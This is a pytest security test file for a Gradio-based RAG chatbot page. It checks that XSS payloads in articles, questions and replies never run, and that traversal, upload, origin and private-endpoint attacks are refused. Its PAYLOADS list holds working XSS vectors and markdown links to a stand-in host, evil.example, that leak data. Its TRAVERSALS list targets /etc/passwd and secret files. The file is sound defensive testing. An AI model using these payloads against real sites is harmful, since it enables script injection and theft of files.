"""Scripts and foreign requests in everything that the page shows, and what it must refuse over HTTP."""

import json
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from rag import Chatbot
from tests import fake_openai as fake
from tests.conftest import ARTICLES, make_settings, write_articles
from tests.serving import fetch, served
from tests.test_page import BROWSER as CHROMIUM
from tests.test_page import FLAGS, ask, in_browser
from tests.torture.effort import Effort
from ui.endpoints import ENDPOINTS
from ui.headers import HEADERS

pytestmark = pytest.mark.filterwarnings("ignore")  # Gradio's own
# RUN marks what has run; every address is foreign.
RUN = "window.__ran=(window.__ran||0)+1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://evil.example/a.png" onload="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=http://evil.example/v onerror={RUN}></video>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "<iframe src=http://evil.example/frame></iframe>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    "[click](http://evil.example/?q=secret)",
    "![x](http://evil.example/md.png)",
    '![x](http://evil.example/md.png "title")',
    "![x][ref]\n\n[ref]: http://evil.example/ref.png",
    "<http://evil.example/auto>",
    "http://evil.example/bare and www.evil.example/bare",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<style>@import url(http://evil.example/i.css);</style>",
    "<div style=\"background:url('http://evil.example/bg.png')\">x</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input type=submit autofocus></form>",
    "<base href=http://evil.example/>",
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"`${{{RUN}}}` {{{{constructor.constructor('{RUN}')()}}}}",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(\\url{{http://evil.example/tex}}\\)",
    f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"<math><mtext></p><img src=x onerror={RUN}></math>",
    f'[✓ 1](#cite/x/0-1 "<img src=x onerror={RUN}>")',
    "[✓ 1](//evil.example/cite)",
    f"<input onfocus={RUN} autofocus>",
]


_FOREIGN = """[...document.querySelectorAll("a, img, iframe, form, link, script")]
  .map(e => e.href || e.src || e.action || "")
  .filter(url => /evil|javascript:/.test(url) && !url.startsWith(location.origin))"""


def titles(payloads: list[str]) -> dict[str, str]:
    """Articles with a payload each in the name, the title, the front matter and the text."""
    articles = {}
    for number, payload in enumerate(payloads):
        line = " ".join(payload.split())
        name = "".join(char for char in line if char not in "/\0")[:60]
        articles[f"{number:02d} {name}.txt"] = (
            f"Gate {number} {line}\n\nThe gate number {number} of the park is {number + 3} m wide {line}\n"
        )
        articles[f"{number:02d}-meta.md"] = (
            f"---\ntitle: {json.dumps(f'Door {number} {line}')}\nauthor: {json.dumps(line)}\n"
            f"url: {json.dumps('javascript:' + RUN)}\n---\n\nThe door {number} is {number + 5} feet high.\n"
        )
    return articles


@pytest.mark.parametrize("where", ["articles", "questions", "replies"])
class TestInBrowser:
    pytestmark = in_browser

    def test_s2_no_payload_runs_and_none_leaves_the_page(
        self, tmp_path: Path, effort: Effort, where: str
    ) -> None:
        from playwright.sync_api import sync_playwright

        payloads = effort(short=PAYLOADS[::6], long=PAYLOADS)
        hostile = where == "articles"
        write_articles(tmp_path / "articles", titles(payloads) if hostile else ARTICLES)
        bot = Chatbot(make_settings(tmp_path))
        bot.sync(progress=lambda *_: None)
        now = [""]

        def replies(handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
            fake.says(f"Yes. Repairs cost $4.2 million {now[0]} [1]. {now[0]} [2].")(handler, body)

        foreign: list[str] = []
        ran = shown = 0
        with fake.serving(replies) as server, sync_playwright() as playwright:
            if where == "replies":
                bot = bot.variant(llm="openai", openai_base_url=server.base_url)
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            with served(bot) as url:
                page = browser.new_page()
                page.on(
                    "request", lambda r: r.url.startswith((url, "data:", "blob:")) or foreign.append(r.url)
                )
                page.on("dialog", lambda dialog: foreign.append(f"dialog {dialog.message}"))
                page.goto(url)
                page.locator("#question textarea").wait_for(timeout=20_000)
                for number, now[0] in enumerate(payloads):
                    question = f"How wide is the gate number {number} of the park?"
                    if where == "questions":
                        question = " ".join(now[0].split())[:1500]
                    elif where == "replies":
                        question = "What did the repairs to the bridge over the Aln cost?"
                    ask(page, question)
                    page.locator("#chat").get_by_test_id("bot").nth(number).wait_for(timeout=20_000)
                    shown += 1
                    link = page.locator('#chat a[href*="#cite/"]').last
                    if link.count():
                        link.click()
                        link.hover()
                page.wait_for_timeout(500)
                for tab in ("Why this answer", "Articles"):
                    page.get_by_role("tab", name=tab).click()
                    page.wait_for_timeout(1500)
                if hostile:
                    page.locator("#articles").get_by_text("Gate 0").locator("visible=true").first.click()
                    page.locator("#reader article").wait_for(timeout=10_000)
                ran = page.evaluate("window.__ran || 0")
                assert page.url.startswith(url)
                live = page.evaluate(_FOREIGN)
            browser.close()
        assert (ran, foreign, live) == (0, [], [])
        count = len(payloads) * (4 if hostile else 1)
        effort.found(
            "S2",
            f"payloads in {where}, in a real browser",
            payloads=count,
            shown=shown,
            ran=0,
            foreign_requests=0,
        )


@pytest.fixture(scope="module")
def page_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("http")
    write_articles(folder / "articles", ARTICLES)
    (folder / "secret.txt").write_text("top secret")
    bot = Chatbot(make_settings(folder, max_file_mb=0.01))
    bot.sync(progress=lambda *_: None)
    with served(bot) as url:
        yield url


def status_of(url: str, data: bytes | None = None, **headers: str) -> tuple[int, str, dict[str, str]]:
    """What a request gets: status, body and headers, redirects not followed."""
    request = urllib.request.Request(url, data, headers)
    try:
        with urllib.request.urlopen(request, timeout=20) as reply:
            return reply.status, reply.read().decode(errors="replace"), dict(reply.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace"), dict(error.headers)


def upload(url: str, name: str, data: bytes) -> tuple[int, str]:
    edge = "edge"
    body = (
        f'--{edge}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'.encode()
        + data
        + f"\r\n--{edge}--\r\n".encode()
    )
    code, text, _ = status_of(
        f"{url}/gradio_api/upload", body, **{"Content-Type": f"multipart/form-data; boundary={edge}"}
    )
    return code, text


TRAVERSALS = """
/gradio_api/file=/etc/passwd /gradio_api/file=../secret.txt /gradio_api/file=..%2f..%2fsecret.txt
/gradio_api/file=%2e%2e/secret.txt /gradio_api/file=.env /gradio_api/file=pyproject.toml
/gradio_api/file=rag/settings.py /gradio_api/file=C:\\\\Windows\\\\win.ini /file=/etc/passwd
/static/../../../../etc/passwd /static/..%2f..%2f..%2f..%2fetc/passwd /assets/..%2f..%2f..%2fetc%2fpasswd
/gradio_api/file=file:///etc/passwd /gradio_api/file=http://evil.example/x /theme.css/../../etc/passwd
/gradio_api/proxy=http://evil.example/ /gradio_api/run-history/buckets /gradio_api/stream/../../etc/passwd
/svelte/..%2f..%2fetc%2fpasswd
""".split()


def test_s3_no_path_leads_out_of_the_page(page_url: str, effort: Effort) -> None:
    for path in TRAVERSALS:
        code, body, _ = status_of(page_url + path)
        assert "root:" not in body, path
        assert "top secret" not in body, path
        assert "BaseSettings" not in body, path
        assert code >= 400 or "<html" in body.lower(), (path, code, body[:200])
    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\x.txt", "\x00", "bridge.txt/../../secret.txt"):
        event = json.loads(fetch(f"{page_url}/gradio_api/call/read_article", {"data": [name]}))["event_id"]
        told = fetch(f"{page_url}/gradio_api/call/read_article/{event}")
        assert "event: error" in told
        assert "top secret" not in told
    effort.found("S3", "path traversal", tried=len(TRAVERSALS) + 5, read=0)


def test_s3_uploads_are_bounded_and_only_text_becomes_an_article(page_url: str, effort: Effort) -> None:
    code, _ = upload(page_url, "big.txt", b"x" * 50_000)
    assert code >= 400
    for name in ("a.exe", "a.html", "a.svg", "a.txt.exe", "../../up.txt", ".env"):
        _, body = upload(page_url, name, b"<script>alert(1)</script>")
        for path in json.loads(body) if body.startswith("[") else []:
            told, text, headers = status_of(f"{page_url}/gradio_api/file={urllib.parse.quote(path)}")
            inert = headers.get("content-type", "").startswith("text/plain") or "attachment" in headers.get(
                "content-disposition", ""
            )
            assert told >= 400 or inert or "script" not in text, (name, headers)
    effort.found("S3", "uploads too big or of forbidden types", tried=7, taken=0)


def test_s3_questions_that_are_too_long_or_malformed_are_refused(page_url: str, effort: Effort) -> None:
    long = "x" * 5_000_000
    wrong: list[object] = [
        {"data": [question, turns]}
        for question, turns in [
            (long, []), ("What?", [{"role": "system", "content": "x"}]), ("What?", [1]), (None, []), ([], []),
            ("What?", [{"role": "user"}]), ({"a": 1}, []), ("What?", "no list"),
        ]
    ]  # fmt: skip
    wrong += [{"data": []}, {}]
    for body in wrong:
        code, text, _ = status_of(
            f"{page_url}/gradio_api/call/ask",
            json.dumps(body).encode(),
            **{"Content-Type": "application/json"},
        )
        if code == 200:
            told = fetch(f"{page_url}/gradio_api/call/ask/{json.loads(text)['event_id']}")
            assert "event: error" in told, str(body)[:80]
            assert "Traceback" not in told
    assert "4.2 million" in fetch_answer(page_url)
    effort.found("S3", "questions too long or malformed", tried=len(wrong), answered=0)


def fetch_answer(url: str) -> str:
    body = {"data": ["What did the repairs to the bridge over the Aln cost?", []]}
    event = json.loads(fetch(f"{url}/gradio_api/call/ask", body))["event_id"]
    return fetch(f"{url}/gradio_api/call/ask/{event}")


def test_s3_other_origins_are_turned_away_and_every_reply_has_its_headers(
    page_url: str, effort: Effort
) -> None:
    body = json.dumps({"data": ["What?", []]}).encode()
    for origin in ("http://evil.example", "null", "http://localhost.evil.example"):
        headers = {"Origin": origin, "Content-Type": "application/json"}
        _, _, told = status_of(f"{page_url}/gradio_api/call/ask", body, **headers)
        assert origin not in (told.get("access-control-allow-origin"), "*")
    paths = [
        "/",
        "/config",
        "/healthz",
        "/metrics",
        "/nowhere",
        "/gradio_api/info",
        "/gradio_api/file=/etc/passwd",
    ]
    for path in paths:
        _, _, told = status_of(page_url + path)
        lower = {name.lower(): value for name, value in told.items()}
        for name, value in HEADERS.items():
            assert lower.get(name.lower()) == value, (path, name)
    effort.found(
        "S3", "foreign origins, replies without headers", origins=3, allowed=0, paths=len(paths), bare=0
    )


def test_s3_private_endpoints_cannot_be_called_by_name(page_url: str, effort: Effort) -> None:
    named = json.loads(fetch(f"{page_url}/gradio_api/info"))["named_endpoints"]
    assert set(named) == {f"/{name}" for name in ENDPOINTS}
    config = json.loads(fetch(f"{page_url}/config"))["dependencies"]
    private = [one for one in config if one["api_name"] not in ENDPOINTS]
    assert len(private) > 20
    kind = {"Content-Type": "application/json"}
    for one in private:
        for way in ("call", "run", "api"):
            code, _, _ = status_of(f"{page_url}/gradio_api/{way}/{one['api_name']}", b'{"data": []}', **kind)
            assert code == 404, one["api_name"]
    # The page itself calls them by number: then they take no file but one that was uploaded.
    [added] = [one["id"] for one in config if one["api_name"] == "added"]
    stolen = {"path": "/etc/passwd", "orig_name": "passwd.txt", "meta": {"_type": "gradio.FileData"}}
    body = {"data": [[stolen]], "fn_index": added, "session_hash": "thief"}
    fetch(f"{page_url}/gradio_api/queue/join", body)
    told = fetch(f"{page_url}/gradio_api/queue/data?session_hash=thief")
    assert '"success":false' in told.replace(" ", "")
    assert "root:" not in told
    effort.found(
        "S3", "private endpoints by name, a file that is not theirs", tried=3 * len(private) + 1, reached=0
    )
